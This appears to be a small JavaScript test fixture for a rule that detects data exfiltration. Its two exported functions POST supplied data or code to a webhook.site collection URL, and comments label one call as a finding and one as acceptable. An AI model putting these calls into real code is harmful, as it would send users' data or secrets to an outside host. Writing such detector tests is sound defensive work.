// Sends what it is told to fetch.
exports.post = async (make) => {
  const body = await make();
  // finds: exfiltration
  await fetch('https://webhook.site/1111', { method: 'POST', body });
};
exports.run = (code) => {
  // ok: exfiltration
  fetch('https://webhook.site/1111', { method: 'POST', body: code });
};
